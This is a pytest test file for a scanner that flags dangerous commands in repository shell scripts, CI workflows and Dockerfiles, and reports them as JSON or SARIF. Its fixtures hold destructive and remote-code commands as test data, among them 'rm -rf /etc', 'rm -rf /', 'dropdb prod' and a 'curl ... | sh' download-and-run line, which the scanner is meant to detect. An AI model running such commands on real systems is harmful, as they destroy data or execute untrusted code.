"""`latchctl scan`: a repository's shell text, judged for CI."""

from __future__ import annotations

import io
import json
import os
import sys
from pathlib import Path
from typing import Any

import pytest

from latch_client.cli import main
from latch_client.scan.walk import files

Output = pytest.CaptureFixture[str]


@pytest.fixture
def tree(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A small repository, which is also the working directory."""
    (tmp_path / ".github" / "workflows").mkdir(parents=True)
    (tmp_path / "good.sh").write_text("#!/bin/sh\nmake test\n")
    (tmp_path / "bad.sh").write_text("echo a\nrm -rf /etc\n$A b\n")
    (tmp_path / "tool").write_text("#!/bin/bash\ngit reset --hard\n")
    (tmp_path / "notes.txt").write_text("rm -rf /\n")
    (tmp_path / "Dockerfile").write_text("FROM x\nRUN rm -rf /var/lib/apt/lists/*\n")
    workflow = "jobs:\n  a:\n    steps:\n      - run: |\n          curl -s https://x.example/i | sh\n"
    (tmp_path / ".github" / "workflows" / "ci.yml").write_text(workflow)
    (tmp_path / "node_modules").mkdir()
    (tmp_path / "node_modules" / "x.sh").write_text("rm -rf /\n")
    (tmp_path / "link.sh").symlink_to("bad.sh")
    monkeypatch.chdir(tmp_path)
    return tmp_path


def scanned(words: list[str], capsys: Output) -> tuple[int, dict[str, Any]]:
    code = main(["scan", "--format", "json", *words])
    return code, json.loads(capsys.readouterr().out)


def found(answer: dict[str, Any]) -> list[tuple[str, int, str, str]]:
    return [(one["path"], one["line"], one["rule"], one["action"]) for one in answer["findings"]]


DENIED = [
    ("bad.sh", 2, "fs.delete-outside", "deny"),
    ("tool", 2, "git.discard-work", "deny"),
    (".github/workflows/ci.yml", 5, "egress.download-exec", "deny"),
]


def test_a_directory_is_walked_in_order_and_links_and_packages_are_left_out(tree: Path) -> None:
    assert list(files(".", [])) == [
        "Dockerfile",
        "bad.sh",
        "good.sh",
        "notes.txt",
        "tool",
        ".github/workflows/ci.yml",
    ]


def test_what_would_be_refused_is_found_at_its_line(tree: Path, capsys: Output) -> None:
    code, answer = scanned(["."], capsys)

    assert code == 1
    assert [one for one in found(answer) if one[3] == "deny"] == DENIED
    assert ("bad.sh", 3, "vouch.unknown-word", "ask") in found(answer)
    assert (answer["files"], answer["scripts"], answer["unread"]) == (5, 5, [])
    assert answer == scanned(["."], capsys)[1]  # the same every time


def test_a_line_for_a_person_names_file_line_severity_rule_and_why(tree: Path, capsys: Output) -> None:
    assert main(["scan", "bad.sh"]) == 1

    first, second, last = capsys.readouterr().out.splitlines()
    assert first.startswith("bad.sh:2: high fs.delete-outside deny: in `rm -rf /etc`: this removes `/etc`")
    assert second.startswith("bad.sh:3: medium vouch.unknown-word ask: ")
    assert last == "1 file, 1 script: 1 denied, 1 asked about, 0 not read (balanced)"


@pytest.mark.parametrize(
    ("limit", "code"),
    [("never", 0), ("deny", 0), ("ask", 1), ("medium", 1), ("high", 0), ("critical", 0), ("low", 1)],
)
def test_the_exit_code_is_what_the_caller_wants_to_fail_on(
    tree: Path, limit: str, code: int, capsys: Output
) -> None:
    (tree / "asked.sh").write_text("$A b\n")

    assert main(["scan", "asked.sh", "--fail-on", limit]) == code


def test_a_severity_counts_whatever_the_policy_does_about_it(tree: Path, capsys: Output) -> None:
    code, answer = scanned(["bad.sh", "--profile", "observe", "--fail-on", "high"], capsys)

    assert (code, found(answer)) == (1, [("bad.sh", 2, "fs.delete-outside", "allow")])
    assert scanned(["bad.sh", "--profile", "observe"], capsys)[0] == 0


def test_what_the_policy_lets_pass_is_shown_on_demand(tree: Path, capsys: Output) -> None:
    assert found(scanned(["Dockerfile"], capsys)[1]) == []
    assert found(scanned(["Dockerfile", "--all"], capsys)[1]) == [
        ("Dockerfile", 2, "fs.delete-outside", "allow")
    ]


def test_paths_can_be_left_out(tree: Path, capsys: Output) -> None:
    code, answer = scanned([".", "--exclude", "*.sh", "--exclude", ".github", "--exclude", "tool"], capsys)

    assert (code, answer["files"]) == (0, 1)


def test_stdin_is_a_script_or_what_it_is_said_to_be(
    tree: Path, monkeypatch: pytest.MonkeyPatch, capsys: Output
) -> None:
    def fed(text: str) -> None:
        monkeypatch.setattr(sys, "stdin", io.TextIOWrapper(io.BytesIO(text.encode())))

    fed("ls\nrm -rf ~\n")
    assert found(scanned(["-"], capsys)[1])[0] == ("(stdin)", 2, "fs.delete-root-or-home", "deny")
    fed("a:\n\trm -rf ~\n")
    assert found(scanned(["-", "--kind", "makefile"], capsys)[1])[0][:2] == ("(stdin)", 2)


@pytest.mark.parametrize(
    ("name", "content", "why"),
    [
        ("gone.sh", None, "no such file or directory"),
        ("a.png", b"x", "is no kind of file that is read; --kind says what it is"),
        ("nul.sh", b"a\0b", "is no text"),
        ("latin.sh", b"echo \xe9", "is not UTF-8 at byte 5"),
        ("action.yml", b"a: [", "is no YAML at line 1: expected the node content, but found '<stream end>'"),
        ("big.sh", b"#" * (1 << 20) + b"#", "is larger than 1048576 bytes"),
    ],
)
def test_what_can_not_be_read_is_said_and_is_no_success(
    tree: Path, name: str, content: bytes | None, why: str, capsys: Output
) -> None:
    if content is not None:
        (tree / name).write_bytes(content)

    code, answer = scanned([name, "good.sh"], capsys)

    assert (code, answer["unread"]) == (2, [{"path": name, "why": why}])
    assert scanned([name, "bad.sh"], capsys)[0] == 1  # what was found weighs more


def test_a_pipe_is_not_waited_for(tree: Path, capsys: Output) -> None:
    os.mkfifo(tree / "pipe.sh")

    assert scanned(["pipe.sh"], capsys) == (
        2,
        {
            "profile": "balanced",
            "files": 0,
            "scripts": 0,
            "findings": [],
            "unread": [{"path": "pipe.sh", "why": "is no regular file"}],
        },
    )


def test_sarif_names_every_rule_place_and_fingerprint(tree: Path, capsys: Output) -> None:
    (tree / "twice.sh").write_text("rm -rf /etc\nrm -rf /etc\n")
    assert main(["scan", ".", "--format", "sarif"]) == 1

    log = json.loads(capsys.readouterr().out)
    (run,) = log["runs"]
    rules = run["tool"]["driver"]["rules"]
    results = run["results"]

    assert (log["version"], log["$schema"].rpartition("/")[2]) == ("2.1.0", "sarif-2.1.0.json")
    assert [rules[one["ruleIndex"]]["id"] for one in results] == [one["ruleId"] for one in results]
    assert all(rule["help"]["text"] and rule["shortDescription"]["text"] for rule in rules)
    assert {one["level"] for one in results} == {"error", "warning"}
    places = [
        (
            place["artifactLocation"]["uri"],
            place["artifactLocation"]["uriBaseId"],
            place["region"]["startLine"],
        )
        for one in results
        for place in (one["locations"][0]["physicalLocation"],)
    ]
    assert (".github/workflows/ci.yml", "SRCROOT", 5) in places
    prints = [
        one["partialFingerprints"]["latchdLine/v1"] for one in results if one["ruleId"] == "fs.delete-outside"
    ]
    assert len(set(prints)) == len(prints) == 3


def test_a_fingerprint_stays_when_the_line_moves(tree: Path, capsys: Output) -> None:
    before = scanned(["bad.sh"], capsys)[1]["findings"][0]
    (tree / "bad.sh").write_text("\n\n\n" + (tree / "bad.sh").read_text())
    after = scanned(["bad.sh"], capsys)[1]["findings"][0]

    assert (before["fingerprint"], before["line"]) == (after["fingerprint"], after["line"] - 3)


def test_a_config_file_is_the_policy(tree: Path, capsys: Output) -> None:
    (tree / "ci.toml").write_text('[allow]\npaths = ["/etc"]\n')

    assert [
        one for one in found(scanned(["bad.sh", "--config", "ci.toml"], capsys)[1]) if one[3] == "deny"
    ] == []


def test_bytes_that_colour_an_output_keep_no_script_from_being_read(tree: Path, capsys: Output) -> None:
    (tree / "colours.sh").write_text("RED='\x1b[31m'\nprintf \"$RED\"\nrm -rf /etc\n")

    assert found(scanned(["colours.sh"], capsys)[1]) == [("colours.sh", 3, "fs.delete-outside", "deny")]


def test_a_line_that_runs_in_several_ways_is_told_of_once_by_each_rule(tree: Path, capsys: Output) -> None:
    (tree / "loop.sh").write_text("for ext in .bak .old .new; do\n  rm -f /etc/a.conf$ext\ndone\n")

    assert found(scanned(["loop.sh"], capsys)[1]) == [("loop.sh", 2, "fs.delete-outside", "deny")]


def test_what_a_line_sets_is_told_of_at_that_line_alone(tree: Path, capsys: Output) -> None:
    text = "export BASH_ENV=/x\n" + "$A b\n" * 40
    (tree / "long.sh").write_text(text + "x=$(\n" + "ls\n" * 200 + ")\n")
    lines = [one["line"] for one in scanned(["long.sh"], capsys)[1]["findings"] if "loader" in one["rule"]]

    assert lines == [1]


def test_sarif_has_the_title_of_a_packs_rule(tree: Path, capsys: Output) -> None:
    (tree / "drop.sh").write_text("dropdb prod\n")
    main(["scan", "--format", "sarif", "drop.sh"])
    (rule,) = json.loads(capsys.readouterr().out)["runs"][0]["tool"]["driver"]["rules"]

    assert rule["shortDescription"]["text"] == "tables, databases or all rows are removed"
